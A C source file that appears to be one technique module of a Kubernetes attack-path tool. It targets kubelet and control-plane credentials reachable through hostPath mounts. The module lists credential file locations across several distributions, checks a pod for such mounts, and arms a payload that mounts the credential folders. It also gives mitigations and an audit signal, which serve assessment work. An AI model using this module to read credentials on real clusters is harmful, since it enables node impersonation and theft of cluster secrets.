// NodeRestriction limits what the node identity may write; its reads cover every pod bound to the node. Places of kubeadm, K3s,
// RKE2, k0s, MicroK8s, OpenShift. Holds in a user namespace.
#include "attack/technique.h"
#include "attack/technique/hostpath.h"

static const struct host_place places[] = {
	{ "/etc/kubernetes", false },
	{ "/etc/kubernetes/kubelet.conf", false },
	{ "/etc/kubernetes/admin.conf", false },
	{ "/etc/kubernetes/super-admin.conf", false },
	{ "/etc/kubernetes/controller-manager.conf", false },
	{ "/etc/kubernetes/pki", false },
	{ "/etc/kubernetes/pki/etcd", false },
	{ "/etc/kubernetes/static-pod-resources", true },
	{ "/etc/kubernetes/kubeconfig", false },
	{ "/var/lib/kubelet/pki", true },
	{ "/var/lib/kubelet/kubeconfig", false },
	{ "/var/lib/kubelet/bootstrap-kubeconfig", false },
	{ "/etc/rancher/k3s", false },
	{ "/etc/rancher/rke2", false },
	{ "/etc/rancher/k3s/k3s.yaml", false },
	{ "/etc/rancher/rke2/rke2.yaml", false },
	{ "/var/lib/rancher/k3s/agent", false },
	{ "/var/lib/rancher/rke2/agent", false },
	{ "/var/lib/rancher/k3s/server", false },
	{ "/var/lib/rancher/rke2/server", false },
	{ "/var/lib/k0s/pki", true },
	{ "/var/snap/microk8s/current/credentials", true },
	{ "/var/snap/microk8s/current/certs", false },
	{ "/srv/kubernetes", false },
	{ NULL, false },
};

static bool has(const struct pod_view *v, struct host_proof *proof)
{
	return hostpath_reaches(v, places, HOST_READ, proof);
}

static bool arm(struct payload *p)
{
	static const char *const paths[] = { "/etc/kubernetes", "/var/lib/kubelet/pki" };

	if (p->alternative >= sizeof paths / sizeof *paths)
		return false;
	hostpath_arm(p, paths[p->alternative], false);
	return true;
}

const struct technique technique_hostpath_kubelet_creds = {
	.id = "hostpath-kubelet-creds",
	.title = "Take the credentials of the kubelet or the control plane",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_HOST,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY,
	.attack = "T1552.004,T1611",
	.matrix = "MS-TA9013,MS-TA9003",
	.needs =
		"A hostPath mount of the folder with the kubelet's certificates or kubeconfig, in a container that may be root",
	.gives =
		"acts as the node: the Secrets and account tokens of its pods, the status of the node; on a control-plane node "
		"the cluster's keys",
	.fixes =
		"Enforce Pod Security baseline on the namespace\n"
		"Narrow the mount to the folder that is needed\n"
		"Turn on the NodeRestriction admission plug-in and the Node authorizer",
	.audit = "requests by system:node:NAME from the address of a pod",
	.source = "kubernetes/kubernetes plugin/pkg/auth/authorizer/node, plugin/pkg/admission/noderestriction",
	.from = POSITION_POD,
	.effect = EFFECT_NODE_READ,
	.has = has,
	.arm = arm,
};
